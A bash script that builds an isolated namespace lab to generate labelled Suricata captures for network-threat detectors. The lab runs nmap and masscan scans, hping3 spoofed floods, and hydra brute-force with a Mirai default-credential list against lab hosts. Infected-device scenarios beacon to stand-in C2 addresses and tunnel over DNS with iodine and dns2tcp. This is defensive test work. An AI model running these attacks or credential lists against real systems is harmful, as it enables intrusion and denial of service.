#!/usr/bin/env bash
# Real-tools lab: real attack tools and real benign clients against a small home network,
# captured by real Suricata 7 on the home gateway, with exact per-source labels.
#
#   scripts/lab/real-tools.sh [--force] [OUT_DIR]      (root; default OUT_DIR target/lab/real-tools)
#
# Writes OUT_DIR/lab.pcap (every frame that entered the gateway), OUT_DIR/eve.json (Suricata's
# live eve log), OUT_DIR/manifest.json (labels), OUT_DIR/run.log (what ran, exit codes),
# OUT_DIR/logs/ (each scenario's own output) and OUT_DIR/suricata.log. If manifest.json already
# has "version" = sha256 of this script and the files beside it (check-lab.sh excepted), it
# exits at once ("cached"); --force rebuilds. Takes about 4 minutes; nothing leaves the lab.
#
# TOPOLOGY (all Linux network namespaces named sgl-*, deleted at start and on exit)
#   sgl-gw   the home router: ip_forward on (v4+v6), rp_filter off everywhere, no NAT, no
#            default route. Bridge br-lan (192.168.50.1/24, fd00:50::1/64) = home,
#            bridge br-wan (198.51.100.1/24, 203.0.113.1/24, 2001:db8:66::1/64) = outside,
#            route 198.18.0.0/24 via 198.51.100.250 (the "far internet" for the outbound scan).
#            Every host is its own namespace with a veth (e0) into one of the bridges.
#   capture  tc ingress (u32 match-all + mirred) on every bridge port of sgl-gw copies each frame
#            that enters the gateway, once, to veth mon0 -> mon1 in sgl-mon, where Suricata runs
#            with af-packet on mon1 (pcap-log -> lab.pcap, eve-log -> eve.json). So the capture
#            holds all home<->outside traffic plus home<->home (client -> home resolver).
#            Offloads (csum/TSO/GSO/GRO) are off on every veth so frames are real MTU-sized
#            packets with correct checksums.
#   home     .20 NAS: OpenSSH (22 and 2200, v4+v6), vsftpd (21), inetutils telnetd via
#                inetutils-inetd (23), HTTP basic-auth (80, httpd.py), mosquitto w/ passwords (1883)
#            .21 camera (HTTP 80)  .22 UDP-scan target  .23 slow-scan target (HTTP 80)
#            .40/.41/.42 flood victims (HTTP 80 on .40,.42)  .53 dnsmasq home resolver
#            (forwards to 198.51.100.53, t1.lab -> iodined, t2.lab -> dns2tcpd)
#            .31-.39,.45,.46 benign clients, .60-.66 infected devices
#   outside  198.51.100.10 web (also .66 .67 .80 .90 .100 and CDN .128-.187): httpd.py on
#            80 + 443 (self-signed)  .53 dnsmasq "ISP DNS" (names *.lab)  .54 iodined (t1.lab)
#            .55 dns2tcpd (t2.lab)  .83 mosquitto broker  .123 chronyd NTP server
#            .22 legit admin  .250 far internet: owns 198.18.0.1-40 (RST on 23/2323, HTTP on 8080);
#            198.18.0.41-254 route there and are silently dropped
#            203.0.113.11-28 attackers (2001:db8:66::18, ::28 for IPv6)
#
# SCENARIOS (source address -> what; all concurrent, all under `timeout`) and the
# detectors that are the right call (scan-probes: nmap as root starts with its host
# discovery, ICMP timestamp + bare ACK + SYN probes, which only scanners send)
#   attacks from outside (inbound)
#   203.0.113.11 nmap-syn          nmap -sS -T4 (top 1000) 192.168.50.20          port-scan, scan-probes
#   203.0.113.12 nmap-connect      nmap -sT -Pn 5 ports of 192.168.50.16/28        port-scan, horizontal-scan
#   203.0.113.13 nmap-udp          nmap -sU --top-ports 50 192.168.50.22           port-scan, scan-probes
#   203.0.113.14 nmap-version      nmap -sV -p 22 192.168.50.20                    service-scan, scan-probes
#   203.0.113.15 nmap-aggressive   nmap -A -p 80 192.168.50.21                     service-scan, scan-probes
#   203.0.113.16 nmap-slow         nmap -sS -T2 --top-ports 100 192.168.50.23      slow-scan, port-scan, scan-probes
#   203.0.113.17 masscan           masscan 192.168.50.0/24 4 ports --rate 100      horizontal-scan, port-scan
#   2001:db8:66::18 nmap6-syn      nmap -6 -sS -T4 fd00:50::20                     port-scan, scan-probes
#   192.168.50.40 spoofed-syn-flood (victim; from 203.0.113.19) hping3 --rand-source -S -p 80  flood-target
#   192.168.50.41 spoofed-udp-flood (victim; from 203.0.113.20) hping3 --rand-source --udp     flood-target
#   203.0.113.21 syn-flood         hping3 -S -p 80 192.168.50.42 (own address)    syn-flood
#   203.0.113.22 hydra-ssh         hydra ssh 192.168.50.20:22                      brute-force
#   203.0.113.23 hydra-ssh-2200    hydra ssh 192.168.50.20:2200                    brute-force
#   203.0.113.24 hydra-telnet      hydra -C (Mirai's defaults) telnet 192.168.50.20:23  brute-force
#   203.0.113.25 hydra-ftp         hydra ftp 192.168.50.20:21 (vsftpd)             brute-force
#   203.0.113.26 hydra-http-basic  hydra http-get /admin 192.168.50.20:80          brute-force
#   203.0.113.27 mqtt-brute        mosquitto_pub loop, wrong passwords -> .20:1883 brute-force
#                                  (hydra 9.4 has no mqtt module)
#   2001:db8:66::28 hydra-ssh6     hydra -6 ssh [fd00:50::20]:22                   brute-force
#   attacks from inside (outbound)
#   192.168.50.60 beacon-http      curl http://198.51.100.66/... every 2.5 s, 180 s   beaconing
#   192.168.50.61 beacon-https-jitter curl -k https://198.51.100.67/... every 2-4 s   beaconing
#   192.168.50.62 dns-beacon       TXT <random>.c2dns.lab via the home resolver every 3 s  beaconing, dns-tunnel
#   192.168.50.63 iodine           iodine -r via home resolver -> iodined t1.lab; ping + 300 KB  dns-tunnel
#   192.168.50.64 dns2tcp          dns2tcpc via home resolver -> dns2tcpd t2.lab; 200 KB HTTP    dns-tunnel
#   192.168.50.65 outbound-slow-scan nmap -sS -Pn -p 23,2323,8080 --scan-delay 1s on 210
#                                  addresses of 198.18.0.0/24 + a few UDP peers   slow-scan, outbound-scan
#   192.168.50.66 exfiltration     a few small GETs, then curl -T 200 MB to 198.51.100.90   volume-anomaly
#   benign
#   192.168.50.31 cdn-browsing     https page + 48 CDN addresses (names via resolver), twice
#   192.168.50.32-34 mqtt-sensors  mosquitto_pub -l -k 30 every 5 s to 198.51.100.83
#   192.168.50.35 mqtt-sensors     mosquitto_sub -k 30 (subscriber)
#   192.168.50.36 mqtt-reconnect-loop mosquitto_pub with a wrong password every 3 s
#   192.168.50.37-38 ntp           chronyd -Q against 198.51.100.123 every 30 s
#   192.168.50.39 dns              A/AAAA lookups via the home resolver every 10 s
#   192.168.50.53 home-resolver    dnsmasq forwarding the above to the outside DNS/tunnel servers
#   192.168.50.45 cloud-poll       curl http://198.51.100.80/v1/poll every 30 s
#   192.168.50.46 firmware-download curl -k https://198.51.100.100/firmware.bin (50 MB)
#   198.51.100.22 ssh-admin        ssh -i key root@192.168.50.20 uptime, 4 times
set -euo pipefail

root=$(cd "$(dirname "$0")/../.." && pwd)
lab=$root/scripts/lab
force=0
out=
for a in "$@"; do
    case $a in
        --force) force=1 ;;
        -h | --help) sed -n '2,12p' "$0"; exit 0 ;;
        *) out=$a ;;
    esac
done
out=${out:-$root/target/lab/real-tools}
mkdir -p "$out"
out=$(cd "$out" && pwd)

version=$(find "$lab" -maxdepth 1 -type f ! -name check-lab.sh -print0 | sort -z | xargs -0 cat | sha256sum | cut -d' ' -f1)
if [ "$force" = 0 ] && [ -f "$out/manifest.json" ] &&
    [ "$(jq -r '.version // empty' "$out/manifest.json" 2>/dev/null)" = "$version" ]; then
    echo "real-tools lab: cached ($out/manifest.json, version $version)"
    exit 0
fi
if [ "$(id -u)" -ne 0 ]; then
    echo "real-tools lab: must run as root (network namespaces)" >&2
    exit 1
fi
for t in suricata nmap masscan hping3 hydra iodine iodined dns2tcpc dns2tcpd /usr/sbin/sshd vsftpd \
    inetutils-inetd /usr/sbin/telnetd mosquitto mosquitto_pub mosquitto_sub mosquitto_passwd dnsmasq \
    chronyd curl python3 jq openssl ssh ssh-keygen tc; do
    command -v "$t" >/dev/null || { echo "real-tools lab: missing $t (scripts/install-deps.sh)" >&2; exit 1; }
done

work=$out/work
runlog=$out/run.log
started=$(date +%s)

log() { printf '%s +%3ds %s\n' "$(date -u +%H:%M:%S)" "$(($(date +%s) - started))" "$*" >>"$runlog"; echo "lab: $*"; }

kill_ns_procs() {
    local ns=$1 pids
    pids=$(ip netns pids "$ns" 2>/dev/null || true)
    [ -n "$pids" ] && kill -TERM $pids 2>/dev/null || true
}

teardown() {
    local ns
    for ns in $(ip netns list 2>/dev/null | awk '$1 ~ /^sgl-/ {print $1}'); do
        kill_ns_procs "$ns"
    done
    sleep 1
    for ns in $(ip netns list 2>/dev/null | awk '$1 ~ /^sgl-/ {print $1}'); do
        local pids
        pids=$(ip netns pids "$ns" 2>/dev/null || true)
        [ -n "$pids" ] && kill -KILL $pids 2>/dev/null || true
        ip netns del "$ns" 2>/dev/null || true
    done
    rm -rf /etc/netns/sgl-*
    [ -n "${made_etc_netns:-}" ] && rmdir /etc/netns 2>/dev/null || true
}

cleanup() {
    local rc=$?
    set +e
    trap - EXIT INT TERM
    # our own background scenario runners (children of this shell)
    local j
    for j in $(jobs -p); do kill -TERM "$j" 2>/dev/null; done
    teardown
    wait 2>/dev/null
    rm -rf "$work"
    exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ---------------------------------------------------------------- fresh start
teardown
[ -d /etc/netns ] || made_etc_netns=1
rm -rf "$work" "$out/logs"
rm -f "$out"/lab.pcap "$out"/log.pcap* "$out"/eve.json "$out"/suricata.log "$out"/stats.log \
    "$out"/manifest.json "$runlog"
mkdir -p "$work/rc" "$out/logs"
: >"$work/sources.tsv"
log "real-tools lab -> $out (version $version)"

# ---------------------------------------------------------------- topology
nsx() { local n=$1; shift; ip netns exec "sgl-$n" "$@"; }
gwports=()

nsbase() { # NAME: create namespace with lo up and permissive sysctls
    ip netns add "sgl-$1"
    ip -n "sgl-$1" link set lo up
    nsx "$1" sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0 \
        net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0 net.ipv4.ping_group_range="0 2147483647"
}

nsbase gw
ip -n sgl-gw link add br-lan address 02:5e:00:00:50:01 type bridge
ip -n sgl-gw link add br-wan address 02:5e:00:00:66:01 type bridge
ip -n sgl-gw link set br-lan up
ip -n sgl-gw link set br-wan up
ip -n sgl-gw addr add 192.168.50.1/24 dev br-lan
ip -n sgl-gw -6 addr add fd00:50::1/64 dev br-lan nodad
ip -n sgl-gw addr add 198.51.100.1/24 dev br-wan
ip -n sgl-gw addr add 203.0.113.1/24 dev br-wan
ip -n sgl-gw -6 addr add 2001:db8:66::1/64 dev br-wan nodad
nsx gw sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
nsx gw sysctl -qw net.ipv4.conf.br-lan.rp_filter=0 net.ipv4.conf.br-wan.rp_filter=0

nsbase mon
ip -n sgl-gw link add mon0 type veth peer name mon1 netns sgl-mon
ip -n sgl-gw link set mon0 up
ip -n sgl-mon link set mon1 up
nsx mon sysctl -qw net.ipv6.conf.mon1.disable_ipv6=1

host() { # NAME SIDE(lan|wan) IP4 [IP6]
    local n=$1 side=$2 ip4=$3 ip6=${4:-} gw4 gw6
    nsbase "$n"
    ip -n sgl-gw link add "p-$n" type veth peer name e0 netns "sgl-$n"
    ip -n sgl-gw link set "p-$n" master "br-$side" up
    ip -n "sgl-$n" link set e0 up
    ip -n "sgl-$n" addr add "$ip4/24" dev e0
    case $ip4 in
        192.168.50.*) gw4=192.168.50.1 gw6=fd00:50::1 ;;
        198.51.100.*) gw4=198.51.100.1 gw6=2001:db8:66::1 ;;
        203.0.113.*) gw4=203.0.113.1 gw6=2001:db8:66::1 ;;
    esac
    ip -n "sgl-$n" route add default via "$gw4"
    if [ -n "$ip6" ]; then
        ip -n "sgl-$n" -6 addr add "$ip6/64" dev e0 nodad
        ip -n "sgl-$n" -6 route add default via "$gw6"
    fi
    nsx "$n" python3 "$lab/offload-off.py" e0
    gwports+=("p-$n")
}

# home servers and victims
host h20 lan 192.168.50.20 fd00:50::20
host h21 lan 192.168.50.21
host h22 lan 192.168.50.22
host h23 lan 192.168.50.23
host h40 lan 192.168.50.40
host h41 lan 192.168.50.41
host h42 lan 192.168.50.42
host h53 lan 192.168.50.53 fd00:50::53
# home benign clients
for i in 31 32 33 34 35 36 37 38 39 45 46; do host "b$i" lan "192.168.50.$i"; done
# home infected devices
for i in 60 61 62 63 64 65 66; do host "i$i" lan "192.168.50.$i"; done
# outside servers
host oweb wan 198.51.100.10
for a in 66 67 80 90 100 $(seq 128 187); do ip -n sgl-oweb addr add "198.51.100.$a/24" dev e0; done
host odns wan 198.51.100.53
host otun1 wan 198.51.100.54
host otun2 wan 198.51.100.55
host omqtt wan 198.51.100.83
host ontp wan 198.51.100.123
host oadmin wan 198.51.100.22
host ofar wan 198.51.100.250
for a in $(seq 1 40); do ip -n sgl-ofar addr add "198.18.0.$a/32" dev e0; done
ip -n sgl-gw route add 198.18.0.0/24 via 198.51.100.250
# attackers
for i in $(seq 11 28); do
    case $i in
        18 | 28) host "a$i" wan "203.0.113.$i" "2001:db8:66::$i" ;;
        *) host "a$i" wan "203.0.113.$i" ;;
    esac
done
nsx h22 sysctl -qw net.ipv4.icmp_ratelimit=0

# capture plumbing: copy every frame entering the gateway to mon0
nsx gw python3 "$lab/offload-off.py" mon0 "${gwports[@]}"
nsx mon python3 "$lab/offload-off.py" mon1
for p in "${gwports[@]}"; do
    nsx gw tc qdisc add dev "$p" ingress
    nsx gw tc filter add dev "$p" parent ffff: protocol all u32 match u32 0 0 action mirred egress mirror dev mon0
done
log "topology up: $(ip netns list | grep -c '^sgl-') namespaces, ${#gwports[@]} gateway ports mirrored"

# ---------------------------------------------------------------- files for the servers
mkdir -p "$work/vsftpd-empty" "$work/dns2tcp-chroot" /run/sshd
chmod 755 "$work/vsftpd-empty"
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=lab" -keyout "$work/tls.key" \
    -out "$work/tls.crt" >/dev/null 2>&1
ssh-keygen -q -t ed25519 -N '' -f "$work/ssh_host_ed25519_key"
ssh-keygen -q -t ed25519 -N '' -f "$work/admin_key"
cp "$work/admin_key.pub" "$work/authorized_keys"
cat >"$work/sshd_config" <<EOF
Port 22
Port 2200
ListenAddress 0.0.0.0
ListenAddress ::
HostKey $work/ssh_host_ed25519_key
PidFile $work/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin yes
AuthorizedKeysFile $work/authorized_keys
StrictModes no
MaxStartups 200
MaxAuthTries 6
LoginGraceTime 20
EOF
cat >"$work/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=192.168.50.20
background=NO
anonymous_enable=NO
local_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=$work/vsftpd-empty
seccomp_sandbox=NO
xferlog_enable=NO
max_per_ip=50
max_clients=100
EOF
echo "telnet stream tcp nowait root /usr/sbin/telnetd telnetd" >"$work/inetd.conf"
mosquitto_passwd -b -c "$work/mosq-home.pw" homeadmin 'Corr3ct-Horse-lab' 2>/dev/null
cat >"$work/mosq-home.conf" <<EOF
listener 1883 0.0.0.0
allow_anonymous false
password_file $work/mosq-home.pw
persistence false
user root
log_dest stderr
EOF
mosquitto_passwd -b -c "$work/mosq-out.pw" sensor1 'sens0r-pass-1' 2>/dev/null
mosquitto_passwd -b "$work/mosq-out.pw" sensor2 'sens0r-pass-2'
mosquitto_passwd -b "$work/mosq-out.pw" sensor3 'sens0r-pass-3'
mosquitto_passwd -b "$work/mosq-out.pw" dashboard 'dash-pass'
mosquitto_passwd -b "$work/mosq-out.pw" smartplug 'plug-pass'
cat >"$work/mosq-out.conf" <<EOF
listener 1883 0.0.0.0
allow_anonymous false
password_file $work/mosq-out.pw
persistence false
user root
log_dest stderr
EOF
{
    echo "198.51.100.10 www.lab"
    echo "198.51.100.80 api.cloud.lab"
    echo "198.51.100.100 fw.vendor.lab"
    echo "198.51.100.83 broker.lab"
    echo "198.51.100.123 ntp.lab"
    for n in $(seq 1 60); do echo "198.51.100.$((127 + n)) cdn-$n.lab"; done
} >"$work/outside.hosts"
cat >"$work/chrony-server.conf" <<EOF
allow all
local stratum 8
bindaddress 198.51.100.123
cmdport 0
pidfile $work/chrony-server.pid
EOF
for c in 37 38; do
    cat >"$work/chrony-b$c.conf" <<EOF
server 198.51.100.123 iburst maxsamples 4
cmdport 0
pidfile $work/chrony-b$c.pid
EOF
done
cat >"$work/dns2tcpd.conf" <<EOF
listen = 198.51.100.55
port = 53
user = nobody
chroot = $work/dns2tcp-chroot
domain = t2.lab
key = lab-dns2tcp-key
resources = web:127.0.0.1:8000
EOF
printf '%s\n' root admin user pi ubnt support >"$work/users.txt"
printf '%s\n' 123456 password admin root 12345 1234 12345678 qwerty letmein default \
    changeme toor raspberry ubnt support guest pass 111111 abc123 iloveyou \
    admin123 password1 welcome monkey dragon master sunshine princess 654321 000000 \
    test123 vizxv xc3511 888888 7ujMko0admin hi3518 jvbzd anko zlxx. Zte521 >"$work/pass.txt"
# Telnet: the default credentials the Mirai family tries on IoT telnet (public since its
# source was published in 2016), login:password per line. Hydra's telnet success check is
# a heuristic ("telnet is by its nature unreliable to analyze"): when it takes a refusal
# for a success it skips that login's other passwords, so few logins could end a run
# after a handful of sessions. Fourteen logins keep the attack going. No empty passwords:
# telnetd runs the host's own login(1) (the lab's namespaces share its accounts). Some sessions stall in
# telnet option negotiation between hydra and inetutils telnetd until login(1) gives up
# after 60 s (more of them on a slower machine); eight tasks keep sessions coming.
printf '%s\n' root:xc3511 root:vizxv root:admin admin:admin root:888888 root:xmhdipc \
    root:default root:juantech root:123456 root:54321 support:support admin:password \
    root:root root:12345 user:user root:pass admin:admin1234 root:1111 admin:smcadmin \
    admin:1111 root:666666 root:password root:1234 root:klv123 Administrator:admin \
    service:service supervisor:supervisor guest:guest guest:12345 admin1:password \
    administrator:1234 666666:666666 888888:888888 ubnt:ubnt root:klv1234 root:Zte521 \
    root:hi3518 root:jvbzd root:anko root:zlxx. root:7ujMko0vizxv root:7ujMko0admin \
    root:system root:ikwb root:dreambox root:user root:realtek root:00000000 admin:1111111 \
    admin:1234 admin:12345 admin:54321 admin:123456 admin:7ujMko0admin admin:pass \
    admin:meinsm tech:tech >"$work/mirai-combos.txt"
printf 'nameserver 192.168.50.53\n' >"$work/resolv.conf"
for n in b31 b39 b46; do mkdir -p "/etc/netns/sgl-$n"; cp "$work/resolv.conf" "/etc/netns/sgl-$n/resolv.conf"; done
for i in $(seq 1 210); do echo "198.18.0.$i"; done >"$work/far-targets.txt"
truncate -s 200M "$work/exfil.bin"

# ---------------------------------------------------------------- servers
daemon() { # NAME NS CMD...: start a long-running server in a namespace, output to logs/
    local name=$1 n=$2
    shift 2
    ip netns exec "sgl-$n" "$@" >"$out/logs/server-$name.log" 2>&1 &
    log "server $name in sgl-$n: $*"
}
daemon sshd h20 /usr/sbin/sshd -D -e -f "$work/sshd_config"
daemon vsftpd h20 vsftpd "$work/vsftpd.conf"
daemon inetd-telnetd h20 inetutils-inetd -d -p "$work/inetd.pid" "$work/inetd.conf"
daemon http-basic-auth h20 python3 "$lab/httpd.py" --port 80 --v6 --auth admin:Tr0ub4dor-lab
daemon mosquitto-home h20 mosquitto -c "$work/mosq-home.conf"
for n in h21 h23 h40 h42; do daemon "http-$n" "$n" python3 "$lab/httpd.py" --port 80; done
daemon dnsmasq-home h53 dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --user=root \
    --listen-address=192.168.50.53 --bind-interfaces --pid-file="$work/dnsmasq-home.pid" \
    --server=198.51.100.53 --server=/t1.lab/198.51.100.54 --server=/t2.lab/198.51.100.55 \
    --cache-size=1000 --log-queries --log-facility=-
daemon dnsmasq-outside odns dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --user=root \
    --listen-address=198.51.100.53 --bind-interfaces --pid-file="$work/dnsmasq-out.pid" \
    --addn-hosts="$work/outside.hosts" --local=/lab/ --address=/c2dns.lab/198.51.100.66 --log-facility=-
daemon http-web oweb python3 "$lab/httpd.py" --port 80
daemon https-web oweb python3 "$lab/httpd.py" --port 443 --tls "$work/tls.crt" "$work/tls.key"
daemon iodined otun1 iodined -f -c -P lab-iodine-pw -l 198.51.100.54 -p 53 10.99.0.1/27 t1.lab
daemon http-tun1 otun1 python3 "$lab/httpd.py" --port 8000
daemon dns2tcpd otun2 dns2tcpd -F -f "$work/dns2tcpd.conf"
daemon http-tun2 otun2 python3 "$lab/httpd.py" --bind 127.0.0.1 --port 8000
daemon mosquitto-outside omqtt mosquitto -c "$work/mosq-out.conf"
daemon chronyd-server ontp chronyd -x -d -u root -f "$work/chrony-server.conf"
daemon http-far ofar python3 "$lab/httpd.py" --port 8080

# ---------------------------------------------------------------- Suricata (capture)
capture=suricata
ip netns exec sgl-mon suricata -c "$lab/suricata-lab.yaml" -l "$out" --af-packet -S /dev/null \
    --pidfile "$work/suricata.pid" >"$out/logs/suricata-stdout.log" 2>&1 &
sur_pid=$!
for _ in $(seq 1 60); do
    grep -qs 'Engine started' "$out/suricata.log" && break
    kill -0 "$sur_pid" 2>/dev/null || break
    sleep 1
done
if ! grep -qs 'Engine started' "$out/suricata.log"; then
    log "suricata af-packet did not start (see logs/suricata-stdout.log); falling back to tcpdump"
    kill "$sur_pid" 2>/dev/null || true
    capture=tcpdump
    ip netns exec sgl-mon tcpdump -i mon1 -s 0 -B 65536 -w "$out/lab.pcap" >"$out/logs/tcpdump.log" 2>&1 &
    sur_pid=$!
    sleep 2
fi
log "capture running: $capture on sgl-mon/mon1"
sleep 2 # servers settle

# ---------------------------------------------------------------- scenarios
# scenario NAME NS DELAY TIMEOUT -- CMD...      run CMD in sgl-NS after DELAY s, bounded by TIMEOUT s
scenario() {
    local name=$1 n=$2 delay=$3 limit=$4
    shift 5
    (
        sleep "$delay"
        log "start $name (sgl-$n, timeout ${limit}s): $*"
        rc=0
        # In the work folder: tools leave files where they run (hydra.restore).
        cd "$work"
        timeout -k 5 "$limit" ip netns exec "sgl-$n" "$@" >"$out/logs/$name.log" 2>&1 || rc=$?
        echo "$rc" >"$work/rc/$name"
        log "end   $name rc=$rc"
    ) &
}
# label IP LABEL SCENARIO RUNNAME DIRECTION DETECTORS(comma) TOOL
label() { printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$@" >>"$work/sources.tsv"; }

export LAB=$lab WORK=$work
# ---- attacks from outside
scenario nmap-syn a11 5 150 -- nmap -sS -T4 -n 192.168.50.20
label 203.0.113.11 attack nmap-syn nmap-syn inbound port-scan,scan-probes "nmap -sS -T4 192.168.50.20"
scenario nmap-connect a12 5 150 -- nmap -sT -T4 -Pn -n --max-retries 1 -p 22,23,80,443,8080 192.168.50.16/28
label 203.0.113.12 attack nmap-connect nmap-connect inbound port-scan,horizontal-scan "nmap -sT -T4 -Pn -p 22,23,80,443,8080 192.168.50.16/28"
scenario nmap-udp a13 10 150 -- nmap -sU -T4 -n --top-ports 50 192.168.50.22
label 203.0.113.13 attack nmap-udp nmap-udp inbound port-scan,scan-probes "nmap -sU -T4 --top-ports 50 192.168.50.22"
scenario nmap-version a14 15 120 -- nmap -sV -n -p 22 192.168.50.20
label 203.0.113.14 attack nmap-version nmap-version inbound service-scan,scan-probes "nmap -sV -p 22 192.168.50.20"
scenario nmap-aggressive a15 20 150 -- nmap -A -n -p 80 192.168.50.21
label 203.0.113.15 attack nmap-aggressive nmap-aggressive inbound service-scan,scan-probes "nmap -A -p 80 192.168.50.21"
scenario nmap-slow a16 5 185 -- nmap -sS -T2 -n --top-ports 100 --max-retries 1 --host-timeout 175s 192.168.50.23
label 203.0.113.16 attack nmap-slow nmap-slow inbound slow-scan,port-scan,scan-probes "nmap -sS -T2 --top-ports 100 --max-retries 1 --host-timeout 175s 192.168.50.23"
scenario masscan a17 30 60 -- masscan 192.168.50.0/24 -p22,23,80,8080 --rate 100 --wait 3 \
    --adapter e0 --adapter-ip 203.0.113.17 --router-mac 02:5e:00:00:66:01
label 203.0.113.17 attack masscan masscan inbound horizontal-scan,port-scan "masscan 192.168.50.0/24 -p22,23,80,8080 --rate 100"
scenario nmap6-syn a18 25 150 -- nmap -6 -sS -T4 -n fd00:50::20
label 2001:db8:66::18 attack nmap6-syn nmap6-syn inbound port-scan,scan-probes "nmap -6 -sS -T4 fd00:50::20"
scenario spoofed-syn-flood a19 100 60 -- bash -c 'hping3 -I e0 --rand-source -S -p 80 -i u1000 -c 20000 192.168.50.40; rc=$?; [ $rc -le 1 ] && exit 0; exit $rc'
label 192.168.50.40 attack-target spoofed-syn-flood spoofed-syn-flood inbound flood-target "hping3 --rand-source -S -p 80 -i u1000 -c 20000 192.168.50.40 (from 203.0.113.19, spoofed)"
scenario spoofed-udp-flood a20 130 60 -- bash -c 'hping3 -I e0 --rand-source --udp -p 5000 -i u1000 -c 20000 192.168.50.41; rc=$?; [ $rc -le 1 ] && exit 0; exit $rc'
label 192.168.50.41 attack-target spoofed-udp-flood spoofed-udp-flood inbound flood-target "hping3 --rand-source --udp -p 5000 -i u1000 -c 20000 192.168.50.41 (from 203.0.113.20, spoofed)"
scenario syn-flood a21 150 50 -- hping3 -I e0 -S -p 80 -i u1000 -c 15000 192.168.50.42
label 203.0.113.21 attack syn-flood syn-flood inbound syn-flood "hping3 -S -p 80 -i u1000 -c 15000 192.168.50.42"
hydra_cmd() { echo hydra -I -L "$work/users.txt" -P "$work/pass.txt" -t 4 -w 10 -o "$work/hydra-$1.out" "${@:2}"; }
scenario hydra-ssh a22 40 60 -- $(hydra_cmd ssh -s 22 192.168.50.20 ssh)
label 203.0.113.22 attack hydra-ssh hydra-ssh inbound brute-force "hydra -L users -P pass -t 4 ssh://192.168.50.20"
scenario hydra-ssh-2200 a23 45 60 -- $(hydra_cmd ssh2200 -s 2200 192.168.50.20 ssh)
label 203.0.113.23 attack hydra-ssh-2200 hydra-ssh-2200 inbound brute-force "hydra -L users -P pass -t 4 -s 2200 192.168.50.20 ssh"
scenario hydra-telnet a24 50 150 -- hydra -I -C "$work/mirai-combos.txt" -t 8 -w 10 -o "$work/hydra-telnet.out" -s 23 192.168.50.20 telnet
label 203.0.113.24 attack hydra-telnet hydra-telnet inbound brute-force "hydra -C mirai-combos (57 login:password pairs, 14 logins) -t 8 192.168.50.20 telnet"
scenario hydra-ftp a25 55 60 -- $(hydra_cmd ftp -s 21 192.168.50.20 ftp)
label 203.0.113.25 attack hydra-ftp hydra-ftp inbound brute-force "hydra -L users -P pass -t 4 192.168.50.20 ftp"
scenario hydra-http-basic a26 60 60 -- $(hydra_cmd http -s 80 192.168.50.20 http-get /admin)
label 203.0.113.26 attack hydra-http-basic hydra-http-basic inbound brute-force "hydra -L users -P pass -t 4 192.168.50.20 http-get /admin"
scenario mqtt-brute a27 65 60 -- bash -c 'for u in $(cat "$WORK/users.txt"); do for p in $(cat "$WORK/pass.txt"); do echo "$u $p"; done; done |
    xargs -P 4 -n 2 sh -c "mosquitto_pub -h 192.168.50.20 -p 1883 -u \"\$0\" -P \"\$1\" -t test -m x -q 0 || true"; exit 0'
label 203.0.113.27 attack mqtt-brute mqtt-brute inbound brute-force "mosquitto_pub -u USER -P PASS loop (6 users x 40 passwords, 4 parallel) against 192.168.50.20:1883 (hydra 9.4 has no mqtt module)"
scenario hydra-ssh6 a28 70 60 -- $(hydra_cmd ssh6 -6 -s 22 fd00:50::20 ssh)
label 2001:db8:66::28 attack hydra-ssh6 hydra-ssh6 inbound brute-force "hydra -6 -L users -P pass -t 4 ssh://[fd00:50::20]"

# ---- attacks from inside
scenario beacon-http i60 5 185 -- bash -c 'end=$((SECONDS+180)); while [ $SECONDS -lt $end ]; do
    curl -s -m 5 -o /dev/null "http://198.51.100.66/api/v1/ping?bot=a91f&seq=$SECONDS"; sleep 2.5; done; exit 0'
label 192.168.50.60 attack beacon-http beacon-http outbound beaconing "while :; do curl -s http://198.51.100.66/api/v1/ping; sleep 2.5; done (180 s)"
scenario beacon-https-jitter i61 5 185 -- bash -c 'end=$((SECONDS+180)); while [ $SECONDS -lt $end ]; do
    curl -sk -m 5 -o /dev/null "https://198.51.100.67/cdn/update.js?k=$RANDOM"; ms=$((2000 + RANDOM % 2001));
    sleep "$((ms / 1000)).$(printf %03d $((ms % 1000)))"; done; exit 0'
label 192.168.50.61 attack beacon-https-jitter beacon-https-jitter outbound beaconing "while :; do curl -k https://198.51.100.67/cdn/update.js; sleep 2..4; done (180 s)"
scenario dns-beacon i62 5 185 -- bash -c 'end=$((SECONDS+180)); while [ $SECONDS -lt $end ]; do
    python3 "$LAB/dnsq.py" 192.168.50.53 "$(head -c 10 /dev/urandom | od -An -tx1 | tr -d " \n").c2dns.lab" TXT; sleep 3; done; exit 0'
label 192.168.50.62 attack dns-beacon dns-beacon outbound beaconing,dns-tunnel "TXT query <random>.c2dns.lab via 192.168.50.53 every 3 s (180 s)"
scenario iodine i63 20 90 -- bash -c 'iodine -f -r -P lab-iodine-pw 192.168.50.53 t1.lab & ipid=$!
    for i in $(seq 1 40); do ip -4 addr show dns0 2>/dev/null | grep -q "inet " && break; sleep 1; done
    ip -4 addr show dns0 | grep -q "inet " || { kill $ipid; echo "iodine: no tunnel"; exit 3; }
    ping -c 20 -i 0.5 10.99.0.1; curl -s -m 40 -o /dev/null -w "tunnel http %{http_code} %{size_download} bytes\n" http://10.99.0.1:8000/blob/300000
    rc=$?; kill $ipid; wait $ipid 2>/dev/null; exit $rc'
label 192.168.50.63 attack iodine iodine outbound dns-tunnel "iodine -r -P PW 192.168.50.53 t1.lab; ping + curl 300 KB over the tunnel (home resolver path)"
scenario dns2tcp i64 25 90 -- bash -c 'dns2tcpc -z t2.lab -k lab-dns2tcp-key -r web -l 8888 192.168.50.53 & cpid=$!; sleep 2
    curl -s -m 60 -o /dev/null -w "tunnel http %{http_code} %{size_download} bytes\n" http://127.0.0.1:8888/blob/200000
    rc=$?; kill $cpid; wait $cpid 2>/dev/null; exit $rc'
label 192.168.50.64 attack dns2tcp dns2tcp outbound dns-tunnel "dns2tcpc -z t2.lab -r web 192.168.50.53; curl 200 KB over the tunnel (home resolver path)"
